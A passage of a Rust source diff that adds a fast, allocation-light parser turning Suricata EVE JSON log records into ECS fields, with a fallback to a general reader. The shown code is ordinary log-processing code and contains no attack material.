@@ -62,6 +62,15 @@
 //! maps 1 → 80, 2 → 60, 3 → 40, 4 (and anything above) → 20; an alert
 //! without one is 60. Anomalies are 30; every other record (flows,
 //! protocol logs, stats) is informational, 0.
+//!
+//! Reading: a record is deserialised once, straight into the fields (no
+//! `serde_json::Value` tree for its objects; the names are built in one
+//! buffer, and the names Suricata writes are static text). Records with a
+//! repeated, dotted or empty key anywhere, two of `flow` and `netflow`, or
+//! no text `event_type` are read by the general reader (values first, then
+//! mapped), which gives the same fields; so do lines that are not records,
+//! so that errors keep their wording. Arrays are kept as lists, their
+//! objects as JSON text.
 
 use std::borrow::Cow;
 use std::fmt;
@@ -78,6 +87,18 @@ use crate::{Context, Fields, Format, ParseError, Parsed, Value};
 /// # Errors
 /// When the line is not a JSON object, or has no `event_type`.
 pub fn parse(line: &str, _ctx: &Context) -> Result<Parsed, ParseError> {
+    if let Some(parsed) = fast::parse(line) {
+        return Ok(parsed);
+    }
+    parse_general(line)
+}
+
+/// The general reader: the record as `serde_json` values, then mapped and
+/// flattened. The fast reader leaves it the records it does not take
+/// (repeated, dotted or empty keys, a missing or odd `event_type`, lines
+/// that are not JSON objects), so that they read exactly as before and
+/// errors keep their wording.
+fn parse_general(line: &str) -> Result<Parsed, ParseError> {
     let trimmed = line.trim();
     match serde_json::from_str::<Entries<'_>>(trimmed) {
         Ok(Entries(entries)) if !trimmed.is_empty() => from_entries(entries),
@@ -529,13 +550,21 @@ fn map_dns(f: &mut Fields, d: &Map<String, Json>) {
 }
 
 fn set_tls_version(f: &mut Fields, v: &str) {
+    if let Some((num, proto)) = tls_version(v) {
+        f.set("tls.version", num);
+        f.set("tls.version_protocol", proto);
+    }
+}
+
+/// `TLSv1.2` → (`1.2`, `tls`); `None` for what is not a TLS or SSL version.
+fn tls_version(v: &str) -> Option<(&str, &'static str)> {
     let v = v.trim();
     let (proto, num) = if let Some(n) = v.strip_prefix("TLSv").or_else(|| v.strip_prefix("TLS ")) {
         ("tls", n)
     } else if let Some(n) = v.strip_prefix("SSLv").or_else(|| v.strip_prefix("SSL ")) {
         ("ssl", n)
     } else {
-        return;
+        return None;
     };
     let num = match num {
         "1" => "1.0",
@@ -545,10 +574,7 @@ fn set_tls_version(f: &mut Fields, v: &str) {
         "13" => "1.3",
         n => n,
     };
-    if !num.is_empty() {
-        f.set("tls.version", num);
-        f.set("tls.version_protocol", proto);
-    }
+    (!num.is_empty()).then_some((num, proto))
 }
 
 pub(crate) fn str_list(items: &[&str]) -> Value {
@@ -601,6 +627,1232 @@ fn copy_int(f: &mut Fields, o: &Map<String, Json>, key: &str, name: &'static str
     let n = o.get(key).and_then(int_of)?;
     f.set(name, n);
     Some(n)
+}
+
+/// The hot path: the line is read once, straight into [`Fields`], with no
+/// `serde_json::Value` tree for its objects (arrays are read as values,
+/// as they were: their objects are kept as JSON text). The names are built
+/// in one buffer; the leaves the ECS mapping needs are noted on the way
+/// (text borrowed from the line when it has no escapes) and the ECS fields
+/// are set after the walk.
+///
+/// It takes only records whose names are plainly unique: no repeated key
+/// in any object, no key with a dot in it, no empty key, and a text
+/// `event_type`. Anything else (and every error) is left to the general
+/// reader, which gives the same fields (in another order).
+mod fast {
+    use std::borrow::Cow;
+    use std::fmt;
+    use std::net::IpAddr;
+
+    use serde::de::{DeserializeSeed, Error as _, IgnoredAny, MapAccess, SeqAccess, Visitor};
+    use serde_json::Value as Json;
+
+    use super::{Key, strip_angle, tls_version};
+    use crate::json::{find_cves, ip_value, parse_time};
+    use crate::{Fields, Parsed, Value};
+
+    /// `suricata.eve.`, the prefix of every raw name.
+    const PREFIX: &str = "suricata.eve.";
+
+    /// Reads `line` when it is an EVE record the fast path takes.
+    pub(super) fn parse(line: &str) -> Option<Parsed> {
+        let trimmed = line.trim();
+        if trimmed.is_empty() {
+            return None;
+        }
+        let mut st = State::new();
+        let mut de = serde_json::Deserializer::from_str(trimmed);
+        serde::Deserializer::deserialize_map(&mut de, TopVisitor(&mut st)).ok()?;
+        de.end().ok()?;
+        st.finish()
+    }
+
+    /// The top-level keys that are read as ECS fields (some kept raw too).
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    enum Top {
+        Timestamp,
+        SrcIp,
+        DestIp,
+        SrcPort,
+        DestPort,
+        Proto,
+        AppProto,
+        CommunityId,
+        InIface,
+        EventType,
+        FlowId,
+    }
+
+    impl Top {
+        /// Keys whose value is never kept under `suricata.eve.`.
+        const fn dropped(self) -> bool {
+            matches!(
+                self,
+                Self::SrcPort | Self::DestPort | Self::CommunityId | Self::InIface
+            )
+        }
+    }
+
+    /// Which part of the record a value is in.
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    enum Sec {
+        Other,
+        Alert,
+        Dns,
+        Http,
+        Tls,
+        FileInfo,
+        Flow,
+        Netflow,
+        Ssh,
+        Smtp,
+        Email,
+        Tcp,
+        Top(Top),
+    }
+
+    macro_rules! names {
+        ($rel:expr, $section:literal, [$($key:literal),* $(,)?]) => {
+            match $rel {
+                $($key => Some(concat!("suricata.eve.", $section, $key)),)*
+                _ => None,
+            }
+        };
+    }
+
+    /// The names of the top-level keys Suricata writes, as static text.
+    #[rustfmt::skip]
+    fn top_name(key: &str) -> Option<&'static str> {
+        names!(key, "", [
+            "timestamp", "flow_id", "parent_id", "in_iface", "event_type", "src_ip",
+            "dest_ip", "proto", "pkt_src", "tx_id", "direction", "app_proto",
+            "app_proto_ts", "app_proto_tc", "app_proto_orig", "app_proto_expected",
+            "icmp_type", "icmp_code", "response_icmp_type", "response_icmp_code", "vlan",
+            "host", "stream", "capture_file", "payload", "payload_printable", "packet",
+            "tx_guessed",
+        ])
+    }
+
+    /// The names of the keys Suricata writes in the sections, as static
+    /// text: most names of a record need no allocation.
+    #[rustfmt::skip]
+    fn section_name(sec: Sec, rel: &str) -> Option<&'static str> {
+        match sec {
+            Sec::Alert => names!(rel, "alert.", [
+                "action", "gid", "signature_id", "rev", "signature", "category", "severity",
+                "metadata.affected_product", "metadata.attack_target", "metadata.created_at",
+                "metadata.cve", "metadata.deployment", "metadata.signature_severity",
+                "metadata.updated_at", "metadata.former_category", "metadata.performance_impact",
+                "metadata.confidence", "metadata.mitre_tactic_id", "metadata.mitre_tactic_name",
+                "metadata.mitre_technique_id", "metadata.mitre_technique_name",
+                "metadata.malware_family", "metadata.tag", "metadata.policy", "source.ip",
+                "source.port", "target.ip", "target.port", "xff",
+            ]),
+            Sec::Dns => names!(rel, "dns.", [
+                "version", "type", "id", "flags", "qr", "rd", "ra", "aa", "tc", "z", "opcode",
+                "rrname", "rrtype", "rcode", "ttl", "rdata", "tx_id", "answers", "authorities",
+                "additionals", "queries", "grouped.A", "grouped.AAAA", "grouped.CNAME",
+                "grouped.MX", "grouped.TXT", "grouped.PTR", "grouped.NS", "grouped.SOA",
+            ]),
+            Sec::Http => names!(rel, "http.", [
+                "hostname", "http_port", "url", "http_user_agent", "http_content_type",
+                "http_refer", "http_method", "protocol", "status", "length", "redirect", "xff",
+                "org_src_ip", "http_request_body", "http_response_body",
+                "http_request_body_printable", "http_response_body_printable",
+                "request_headers", "response_headers",
+            ]),
+            Sec::Tls => names!(rel, "tls.", [
+                "subject", "issuerdn", "serial", "fingerprint", "sni", "version", "notbefore",
+                "notafter", "ja3.hash", "ja3.string", "ja3s.hash", "ja3s.string", "ja4",
+                "session_resumed", "from_proto", "chain", "certificate", "client_alpns",
+                "server_alpns",
+            ]),
+            Sec::FileInfo => names!(rel, "fileinfo.", [
+                "filename", "magic", "gaps", "state", "md5", "sha1", "sha256", "stored", "size",
+                "tx_id", "file_id", "sid", "mimetype", "start", "end",
+            ]),
+            Sec::Flow => names!(rel, "flow.", [
+                "pkts_toserver", "pkts_toclient", "bytes_toserver", "bytes_toclient", "start",
+                "end", "age", "state", "reason", "alerted", "src_ip", "dest_ip", "src_port",
+                "dest_port", "bypass", "bypassed", "emergency", "wrong_thread", "action",
+                "exception_policy", "tx_cnt",
+            ]),
+            Sec::Netflow => names!(rel, "netflow.", [
+                "pkts", "bytes", "start", "end", "age", "min_ttl", "max_ttl", "tx_cnt",
+            ]),
+            Sec::Tcp => names!(rel, "tcp.", [
+                "tcp_flags", "tcp_flags_ts", "tcp_flags_tc", "syn", "fin", "rst", "psh", "ack",
+                "urg", "ecn", "cwr", "state", "ts_max_regions", "tc_max_regions",
+            ]),
+            Sec::Ssh => names!(rel, "ssh.", [
+                "client.proto_version", "client.software_version", "client.hassh.hash",
+                "client.hassh.string", "server.proto_version", "server.software_version",
+                "server.hassh.hash", "server.hassh.string",
+            ]),
+            _ => None,
+        }
+    }
+
+    fn sec_of(key: &str) -> Sec {
+        match key {
+            "timestamp" => Sec::Top(Top::Timestamp),
+            "src_ip" => Sec::Top(Top::SrcIp),
+            "dest_ip" => Sec::Top(Top::DestIp),
+            "src_port" => Sec::Top(Top::SrcPort),
+            "dest_port" => Sec::Top(Top::DestPort),
+            "proto" => Sec::Top(Top::Proto),
+            "app_proto" => Sec::Top(Top::AppProto),
+            "community_id" => Sec::Top(Top::CommunityId),
+            "in_iface" => Sec::Top(Top::InIface),
+            "event_type" => Sec::Top(Top::EventType),
+            "flow_id" | "parent_id" => Sec::Top(Top::FlowId),
+            "alert" => Sec::Alert,
+            "dns" => Sec::Dns,
+            "http" => Sec::Http,
+            "tls" => Sec::Tls,
+            "fileinfo" => Sec::FileInfo,
+            "flow" => Sec::Flow,
+            "netflow" => Sec::Netflow,
+            "ssh" => Sec::Ssh,
+            "smtp" => Sec::Smtp,
+            "email" => Sec::Email,
+            "tcp" => Sec::Tcp,
+            _ => Sec::Other,
+        }
+    }
+
+    /// The scalar leaves with an ECS mapping.
+    #[derive(Debug, Clone, Copy)]
+    enum K {
+        ASig,
+        ASigId,
+        ARev,
+        ACat,
+        AAction,
+        ASev,
+        DRrname,
+        DRrtype,
+        DRcode,
+        DId,
+        DType,
+        DRdata,
+        HHost,
+        HUrl,
+        HMethod,
+        HStatus,
+        HUa,
+        HRefer,
+        HCtype,
+        HLength,
+        HProto,
+        TSni,
+        TSubject,
+        TIssuer,
+        TNotBefore,
+        TNotAfter,
+        TSerial,
+        TVersion,
+        TJa3,
+        TJa3s,
+        TJa4,
+        TJa4Hash,
+        TFingerprint,
+        FName,
+        FMd5,
+        FSha1,
+        FSha256,
+        FSize,
+        FMime,
+        FlBytesTs,
+        FlBytesTc,
+        FlPktsTs,
+        FlPktsTc,
+        FlStart,
+        FlEnd,
+        NBytes,
+        NPkts,
+        NStart,
+        NEnd,
+        SshClientHassh,
+        SshServerHassh,
+        SshClientSoftware,
+        SshServerSoftware,
+        MFrom,
+        MRcpt,
+        ESubject,
+        EMessageId,
+    }
+
+    const NK: usize = K::EMessageId as usize + 1;
+
+    /// The slot of a scalar at `rel` (the path below the section).
+    fn slot(sec: Sec, rel: &str) -> Option<K> {
+        Some(match (sec, rel) {
+            (Sec::Alert, "signature") => K::ASig,
+            (Sec::Alert, "signature_id") => K::ASigId,
+            (Sec::Alert, "rev") => K::ARev,
+            (Sec::Alert, "category") => K::ACat,
+            (Sec::Alert, "action") => K::AAction,
+            (Sec::Alert, "severity") => K::ASev,
+            (Sec::Dns, "rrname") => K::DRrname,
+            (Sec::Dns, "rrtype") => K::DRrtype,
+            (Sec::Dns, "rcode") => K::DRcode,
+            (Sec::Dns, "id") => K::DId,
+            (Sec::Dns, "type") => K::DType,
+            (Sec::Dns, "rdata") => K::DRdata,
+            (Sec::Http, "hostname") => K::HHost,
+            (Sec::Http, "url") => K::HUrl,
+            (Sec::Http, "http_method") => K::HMethod,
+            (Sec::Http, "status") => K::HStatus,
+            (Sec::Http, "http_user_agent") => K::HUa,
+            (Sec::Http, "http_refer") => K::HRefer,
+            (Sec::Http, "http_content_type") => K::HCtype,
+            (Sec::Http, "length") => K::HLength,
+            (Sec::Http, "protocol") => K::HProto,
+            (Sec::Tls, "sni") => K::TSni,
+            (Sec::Tls, "subject") => K::TSubject,
+            (Sec::Tls, "issuerdn") => K::TIssuer,
+            (Sec::Tls, "notbefore") => K::TNotBefore,
+            (Sec::Tls, "notafter") => K::TNotAfter,
+            (Sec::Tls, "serial") => K::TSerial,
+            (Sec::Tls, "version") => K::TVersion,
+            (Sec::Tls, "ja3.hash") => K::TJa3,
+            (Sec::Tls, "ja3s.hash") => K::TJa3s,
+            (Sec::Tls, "ja4") => K::TJa4,
+            (Sec::Tls, "ja4.hash") => K::TJa4Hash,
+            (Sec::Tls, "fingerprint") => K::TFingerprint,
+            (Sec::FileInfo, "filename") => K::FName,
+            (Sec::FileInfo, "md5") => K::FMd5,
+            (Sec::FileInfo, "sha1") => K::FSha1,
+            (Sec::FileInfo, "sha256") => K::FSha256,
+            (Sec::FileInfo, "size") => K::FSize,
+            (Sec::FileInfo, "mimetype") => K::FMime,
+            (Sec::Flow, "bytes_toserver") => K::FlBytesTs,
+            (Sec::Flow, "bytes_toclient") => K::FlBytesTc,
+            (Sec::Flow, "pkts_toserver") => K::FlPktsTs,
+            (Sec::Flow, "pkts_toclient") => K::FlPktsTc,
+            (Sec::Flow, "start") => K::FlStart,
+            (Sec::Flow, "end") => K::FlEnd,
+            (Sec::Netflow, "bytes") => K::NBytes,
+            (Sec::Netflow, "pkts") => K::NPkts,
+            (Sec::Netflow, "start") => K::NStart,
+            (Sec::Netflow, "end") => K::NEnd,
+            (Sec::Ssh, "client.hassh.hash") => K::SshClientHassh,
+            (Sec::Ssh, "server.hassh.hash") => K::SshServerHassh,
+            (Sec::Ssh, "client.software_version") => K::SshClientSoftware,
+            (Sec::Ssh, "server.software_version") => K::SshServerSoftware,
+            (Sec::Smtp, "mail_from") => K::MFrom,
+            (Sec::Smtp, "rcpt_to") => K::MRcpt,
+            (Sec::Email, "subject") => K::ESubject,
+            (Sec::Email, "message_id") => K::EMessageId,
+            _ => return None,
+        })
+    }
+
+    /// A scalar as read: text borrowed from the line where it can be.
+    #[derive(Debug, Clone, Default)]
+    enum Leaf<'de> {
+        #[default]
+        Absent,
+        Str(Cow<'de, str>),
+        Int(i64),
+        /// Beyond `i64`.
+        U64(u64),
+        F64(f64),
+        Bool(bool),
+    }
+
+    impl Leaf<'_> {
+        fn from_json(v: &Json) -> Leaf<'static> {
+            match v {
+                Json::String(s) => Leaf::Str(Cow::Owned(s.clone())),
+                Json::Number(n) => n
+                    .as_i64()
+                    .map(Leaf::Int)
+                    .or_else(|| n.as_u64().map(Leaf::U64))
+                    .or_else(|| n.as_f64().map(Leaf::F64))
+                    .unwrap_or_default(),
+                Json::Bool(b) => Leaf::Bool(*b),
+                _ => Leaf::Absent,
+            }
+        }
+
+        fn as_str(&self) -> Option<&str> {
+            match self {
+                Self::Str(s) => Some(s),
+                _ => None,
+            }
+        }
+
+        /// As `json::text_of`.
+        fn text(&self) -> Option<String> {
+            match self {
+                Self::Absent => None,
+                Self::Str(s) => Some(s.to_string()),
+                Self::Int(n) => Some(n.to_string()),
+                Self::U64(n) => Some(n.to_string()),
+                Self::F64(x) => serde_json::Number::from_f64(*x).map(|n| n.to_string()),
+                Self::Bool(b) => Some(b.to_string()),
+            }
+        }
+
+        /// As `json::int_of`.
+        fn int(&self) -> Option<i64> {
+            match self {
+                Self::Int(n) => Some(*n),
+                Self::F64(x) if x.fract() == 0.0 && x.abs() < 9.0e15 => {
+                    // Checked above: a whole number well inside i64.
+                    #[allow(clippy::cast_possible_truncation)]
+                    let i = *x as i64;
+                    Some(i)
+                }
+                Self::Str(s) => s.trim().parse().ok(),
+                _ => None,
+            }
+        }
+
+        /// The raw field's value (`None` for null).
+        fn value(&self) -> Option<Value> {
+            Some(match self {
+                Self::Absent => return None,
+                Self::Str(s) => Value::Str(s.to_string()),
+                Self::Int(n) => Value::Int(*n),
+                // As serde_json's `as_f64`.
+                #[allow(clippy::cast_precision_loss)]
+                Self::U64(n) => Value::Float(*n as f64),
+                Self::F64(x) => Value::Float(*x),
+                Self::Bool(b) => Value::Bool(*b),
+            })
+        }
+    }
+
+    /// The ECS fields, appended: each ECS name is set at most once (the
+    /// few that two parts of a record could both set are settled before
+    /// they are set), and none starts with `suricata.eve.`.
+    struct Ecs<'f>(&'f mut Fields);
+
+    impl Ecs<'_> {
+        fn set(&mut self, name: &'static str, value: impl Into<Value>) {
+            self.0.push(name, value);
+        }
+
+        /// As `Fields::set_text`.
+        fn set_text(&mut self, name: &'static str, v: &str) {
+            let v = v.trim();
+            if !v.is_empty() && v != "-" {
+                self.set(name, v);
+            }
+        }
+
+        /// As the general reader's `copy_text`.
+        fn copy_text(&mut self, leaf: &Leaf<'_>, name: &'static str) {
+            match leaf {
+                Leaf::Absent => {}
+                Leaf::Str(s) => self.set_text(name, s),
+                other => {
+                    if let Some(s) = other.text() {
+                        self.set(name, s);
+                    }
+                }
+            }
+        }
+
+        /// As the general reader's `copy_int`.
+        fn copy_int(&mut self, leaf: &Leaf<'_>, name: &'static str) -> Option<i64> {
+            let n = leaf.int()?;
+            self.set(name, n);
+            Some(n)
+        }
+    }
+
+    struct State<'de> {
+        fields: Fields,
+        /// The name being built: `suricata.eve.<path>`.
+        name: String,
+        /// Where the path below the current top-level key starts in `name`.
+        sec_base: usize,
+        /// The hashes of the keys of the objects being read, outermost
+        /// first.
+        keys: Vec<u64>,
+        timestamp: Option<garrison_core::Timestamp>,
+        event_type: Option<Cow<'de, str>>,
+        sections: Vec<Sec>,
+        leaves: [Leaf<'de>; NK],
+        /// `dns.queries[0]` when it is an object: its rrname and rrtype.
+        query0: Option<(Leaf<'static>, Leaf<'static>)>,
+        answer_ips: Vec<IpAddr>,
+        grouped_a: Vec<IpAddr>,
+        grouped_aaaa: Vec<IpAddr>,
+        /// `alert.metadata` keys that name CVEs or MITRE ids, with their
+        /// text items.
+        meta: Vec<(String, Vec<String>)>,
+        rcpt_to: Option<Vec<Value>>,
+        attachments: Option<Vec<Value>>,
+    }
+
+    /// Why the fast path gives a record up (never shown: the general
+    /// reader reads the record again).
+    const GIVE_UP: &str = "left to the general reader";
+
+    fn is_meta_key(k: &str) -> bool {
+        let b = k.as_bytes();
+        (b.len() >= 3 && b[..3].eq_ignore_ascii_case(b"cve") && (b.len() == 3 || b[3] == b'_'))
+            || [
+                "mitre_technique_id",
+                "mitre_technique_name",
+                "mitre_tactic_id",
+                "mitre_tactic_name",
+            ]
+            .iter()
+            .any(|m| k.eq_ignore_ascii_case(m))
+    }
+
+    fn push_ip(ips: &mut Vec<IpAddr>, v: Option<&Json>) {
+        if let Some(Json::String(s)) = v
+            && let Ok(ip) = s.parse::<IpAddr>()
+        {
+            ips.push(ip);
+        }
+    }
+
+    impl<'de> State<'de> {
+        fn new() -> Self {
+            let mut name = String::with_capacity(96);
+            name.push_str(PREFIX);
+            Self {
+                fields: Fields::with_capacity(72),
+                name,
+                sec_base: PREFIX.len(),
+                keys: Vec::with_capacity(48),
+                timestamp: None,
+                event_type: None,
+                sections: Vec::new(),
+                leaves: std::array::from_fn(|_| Leaf::Absent),
+                query0: None,
+                answer_ips: Vec::new(),
+                grouped_a: Vec::new(),
+                grouped_aaaa: Vec::new(),
+                meta: Vec::new(),
+                rcpt_to: None,
+                attachments: None,
+            }
+        }
+
+        /// Keeps `value` under the current name (static when it is a
+        /// name Suricata writes).
+        fn push_raw(&mut self, sec: Sec, depth: u32, value: Value) {
+            let known = if depth == 0 {
+                self.name.get(PREFIX.len()..).and_then(top_name)
+            } else {
+                self.name
+                    .get(self.sec_base..)
+                    .and_then(|rel| section_name(sec, rel))
+            };
+            let name = known.map_or_else(|| Cow::Owned(self.name.clone()), Cow::Borrowed);
+            self.fields.push(name, value);
+        }
+
+        /// One scalar at the current name; `Err` gives the record up.
+        fn scalar(&mut self, sec: Sec, depth: u32, leaf: Leaf<'de>) -> Result<(), ()> {
+            if depth == 0
+                && let Sec::Top(top) = sec
+            {
+                return self.top_scalar(top, leaf);
+            }
+            if let Some(v) = leaf.value() {
+                self.push_raw(sec, depth, v);
+            }
+            if depth == 0 || matches!(sec, Sec::Other | Sec::Top(_)) {
+                return Ok(());
+            }
+            let Some(rel) = self.name.get(self.sec_base..) else {
+                return Ok(());
+            };
+            if let Some(k) = slot(sec, rel) {
+                self.leaves[k as usize] = leaf;
+            } else if sec == Sec::Alert
+                && let Some(mk) = rel.strip_prefix("metadata.")
+                && !mk.contains('.')
+                && is_meta_key(mk)
+                && let Leaf::Str(s) = leaf
+            {
+                let mk = mk.to_owned();
+                self.meta.push((mk, vec![s.into_owned()]));
+            }
+            Ok(())
+        }
+
+        fn top_scalar(&mut self, top: Top, leaf: Leaf<'de>) -> Result<(), ()> {
+            match (top, leaf) {
+                (Top::Timestamp, Leaf::Str(s)) => match parse_time(&s) {
+                    Some(ts) => self.timestamp = Some(ts),
+                    None => self.push_raw(Sec::Top(top), 0, Value::Str(s.into_owned())),
+                },
+                (Top::SrcIp, Leaf::Str(s)) => Ecs(&mut self.fields).set("source.ip", ip_value(&s)),
+                (Top::DestIp, Leaf::Str(s)) => {
+                    Ecs(&mut self.fields).set("destination.ip", ip_value(&s))
+                }
+                (Top::SrcPort, leaf) => {
+                    Ecs(&mut self.fields).copy_int(&leaf, "source.port");
+                }
+                (Top::DestPort, leaf) => {
+                    Ecs(&mut self.fields).copy_int(&leaf, "destination.port");
+                }
+                (Top::Proto, Leaf::Str(s)) => {
+                    Ecs(&mut self.fields).set("network.transport", s.to_ascii_lowercase());
+                }
+                (Top::AppProto, Leaf::Str(p)) if !matches!(&*p, "failed" | "unknown" | "") => {
+                    Ecs(&mut self.fields).set("network.protocol", p.to_ascii_lowercase());
+                }
+                (Top::CommunityId, leaf) => {
+                    if let Some(s) = leaf.text() {
+                        Ecs(&mut self.fields).set_text("network.community_id", &s);
+                    }
+                }
+                (Top::InIface, leaf) => {
+                    if let Some(s) = leaf.text() {
+                        Ecs(&mut self.fields).set_text("observer.ingress.interface.name", &s);
+                    }
+                }
+                (Top::EventType, Leaf::Str(s)) => {
+                    if s.trim().is_empty() {
+                        return Err(());
+                    }
+                    let s = match s {
+                        Cow::Borrowed(b) => Cow::Borrowed(b.trim()),
+                        Cow::Owned(o) => Cow::Owned(o.trim().to_owned()),
+                    };
+                    self.push_raw(Sec::Top(top), 0, Value::Str(s.to_string()));
+                    self.event_type = Some(s);
+                }
+                (Top::EventType, _) => return Err(()),
+                // Flow ids are 64-bit unsigned; keep the exact digits as
+                // text when they do not fit an i64.
+                (Top::FlowId, leaf @ (Leaf::U64(_) | Leaf::F64(_))) => {
+                    if let Some(s) = leaf.text() {
+                        self.push_raw(Sec::Top(top), 0, Value::Str(s));
+                    }
+                }
+                (_, leaf) => {
+                    if let Some(v) = leaf.value() {
+                        self.push_raw(Sec::Top(top), 0, v);
+                    }
+                }
+            }
+            Ok(())
+        }
+
+        /// Whether the ECS mapping reads the items of the array at the
+        /// current name.
+        fn reads_items(&self, sec: Sec) -> bool {
+            let Some(rel) = self.name.get(self.sec_base..) else {
+                return false;
+            };
+            match (sec, rel) {
+                (Sec::Dns, "queries" | "answers" | "grouped.A" | "grouped.AAAA")
+                | (Sec::Smtp, "rcpt_to")
+                | (Sec::Email, "attachment") => true,
+                (Sec::Alert, rel) => rel
+                    .strip_prefix("metadata.")
+                    .is_some_and(|mk| !mk.contains('.') && is_meta_key(mk)),
+                _ => false,
+            }
+        }
+
+        /// An array at the current name: kept as a list, as the general
+        /// reader keeps it; the arrays the ECS mapping reads are read too.
+        fn array(&mut self, sec: Sec, depth: u32, items: Vec<Json>) {
+            if depth > 0
+                && let Some(rel) = self.name.get(self.sec_base..)
+            {
+                match (sec, rel) {
+                    (Sec::Dns, "queries") => {
+                        if let Some(Json::Object(q)) = items.first() {
+                            let get = |k: &str| q.get(k).map(Leaf::from_json).unwrap_or_default();
+                            self.query0 = Some((get("rrname"), get("rrtype")));
+                        }
+                    }
+                    (Sec::Dns, "answers") => {
+                        for a in &items {
+                            push_ip(&mut self.answer_ips, a.get("rdata"));
+                        }
+                    }
+                    (Sec::Dns, "grouped.A") => {
+                        for v in &items {
+                            push_ip(&mut self.grouped_a, Some(v));
+                        }
+                    }
+                    (Sec::Dns, "grouped.AAAA") => {
+                        for v in &items {
+                            push_ip(&mut self.grouped_aaaa, Some(v));
+                        }
+                    }
+                    (Sec::Smtp, "rcpt_to") => {
+                        self.rcpt_to = Some(
+                            items
+                                .iter()
+                                .filter_map(Json::as_str)
+                                .map(|s| Value::Str(strip_angle(s).to_owned()))
+                                .collect(),
+                        );
+                    }
+                    (Sec::Email, "attachment") => {
+                        self.attachments =
+                            Some(items.iter().filter_map(Value::from_json).collect());
+                    }
+                    (Sec::Alert, rel) => {
+                        if let Some(mk) = rel.strip_prefix("metadata.")
+                            && !mk.contains('.')
+                            && is_meta_key(mk)
+                        {
+                            let list = items
+                                .iter()
+                                .filter_map(Json::as_str)
+                                .map(str::to_owned)
+                                .collect();
+                            self.meta.push((mk.to_owned(), list));
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            let list = Value::List(
+                items
+                    .into_iter()
+                    .filter_map(Value::from_json_owned)
+                    .collect(),
+            );
+            self.push_raw(sec, depth, list);
+        }
+
+        /// The ECS fields from what the walk noted, then the event.
+        fn finish(mut self) -> Option<Parsed> {
+            let event_type = self.event_type.take()?;
+            let sections = std::mem::take(&mut self.sections);
+            if sections.contains(&Sec::Flow) && sections.contains(&Sec::Netflow) {
+                // Both set `source.bytes` and the like: the general reader
+                // settles which wins.
+                return None;
+            }
+            let mut fields = std::mem::take(&mut self.fields);
+            let mut ecs = Ecs(&mut fields);
+            ecs.set("event.module", "suricata");
+            ecs.set("event.dataset", "suricata.eve");
+            let (kind, category, types): (&str, &[&str], &[&str]) = match &*event_type {
+                "alert" => ("alert", &["network", "intrusion_detection"], &[]),
+                "stats" => ("metric", &[], &["info"]),
+                "flow" => ("event", &["network"], &["connection", "end"]),
+                "netflow" => ("event", &["network"], &["connection"]),
+                "fileinfo" => ("event", &["network", "file"], &["info"]),
+                "anomaly" | "drop" => ("event", &["network"], &["info"]),
+                _ => ("event", &["network"], &["protocol"]),
+            };
+            ecs.set("event.kind", kind);
+            if !category.is_empty() {
+                ecs.set("event.category", super::str_list(category));
+            }
+            // An alert's action decides the type.
+            let action = sections
+                .contains(&Sec::Alert)
+                .then(|| self.leaf(K::AAction).as_str())
+                .flatten();
+            if let Some(action) = action {
+                let t = match action {
+                    "blocked" | "drop" | "reject" | "rejected" => "denied",
+                    _ => "allowed",
+                };
+                ecs.set("event.type", super::str_list(&[t]));
+            } else if !types.is_empty() {
+                ecs.set("event.type", super::str_list(types));
+            }
+            let mut severity = match &*event_type {
+                "anomaly" => 30,
+                "alert" => 60,
+                _ => 0,
+            };
+            for sec in sections {
+                self.map_section(&mut ecs, &mut severity, sec, &event_type);
+            }
+            Some(Parsed {
+                timestamp: self.timestamp,
+                severity,
+                fields,
+            })
+        }
+
+        fn leaf(&self, k: K) -> &Leaf<'de> {
+            &self.leaves[k as usize]
+        }
+
+        fn map_section(&mut self, f: &mut Ecs, severity: &mut u8, sec: Sec, event_type: &str) {
+            match sec {
+                Sec::Alert => self.map_alert(f, severity),
+                Sec::Dns => self.map_dns(f),
+                Sec::Http => {
+                    f.copy_text(self.leaf(K::HHost), "url.domain");
+                    f.copy_text(self.leaf(K::HUrl), "url.original");
+                    f.copy_text(self.leaf(K::HMethod), "http.request.method");
+                    f.copy_int(self.leaf(K::HStatus), "http.response.status_code");
+                    f.copy_text(self.leaf(K::HUa), "user_agent.original");
+                    f.copy_text(self.leaf(K::HRefer), "http.request.referrer");
+                    f.copy_text(self.leaf(K::HCtype), "http.response.mime_type");
+                    f.copy_int(self.leaf(K::HLength), "http.response.body.bytes");
+                    if let Some(p) = self.leaf(K::HProto).as_str() {
+                        f.set("http.version", p.strip_prefix("HTTP/").unwrap_or(p));
+                    }
+                }
+                Sec::Tls => {
+                    f.copy_text(self.leaf(K::TSni), "tls.client.server_name");
+                    f.copy_text(self.leaf(K::TSubject), "tls.server.subject");
+                    f.copy_text(self.leaf(K::TIssuer), "tls.server.issuer");
+                    f.copy_text(self.leaf(K::TNotBefore), "tls.server.not_before");
+                    f.copy_text(self.leaf(K::TNotAfter), "tls.server.not_after");
+                    f.copy_text(self.leaf(K::TSerial), "tls.server.x509.serial_number");
+                    if let Some(v) = self.leaf(K::TVersion).as_str()
+                        && let Some((num, proto)) = tls_version(v)
+                    {
+                        f.set("tls.version", num);
+                        f.set("tls.version_protocol", proto);
+                    }
+                    f.copy_text(self.leaf(K::TJa3), "tls.client.ja3");
+                    f.copy_text(self.leaf(K::TJa3s), "tls.server.ja3s");
+                    if let Some(s) = self.leaf(K::TJa4).as_str() {
+                        f.set_text("tls.client.ja4", s);
+                    }
+                    f.copy_text(self.leaf(K::TJa4Hash), "tls.client.ja4");
+                    if let Some(fp) = self.leaf(K::TFingerprint).as_str() {
+                        let hex: String = fp
+                            .chars()
+                            .filter(|c| *c != ':')
+                            .collect::<String>()
+                            .to_ascii_uppercase();
+                        if hex.len() == 40 {
+                            f.set("tls.server.hash.sha1", hex);
+                        }
+                    }
+                }
+                Sec::FileInfo => {
+                    f.copy_text(self.leaf(K::FName), "file.name");
+                    f.copy_text(self.leaf(K::FMd5), "file.hash.md5");
+                    f.copy_text(self.leaf(K::FSha1), "file.hash.sha1");
+                    f.copy_text(self.leaf(K::FSha256), "file.hash.sha256");
+                    f.copy_int(self.leaf(K::FSize), "file.size");
+                    f.copy_text(self.leaf(K::FMime), "file.mime_type");
+                }
+                Sec::Flow => {
+                    let ts = f.copy_int(self.leaf(K::FlBytesTs), "source.bytes");
+                    let tc = f.copy_int(self.leaf(K::FlBytesTc), "destination.bytes");
+                    if let (Some(a), Some(b)) = (ts, tc) {
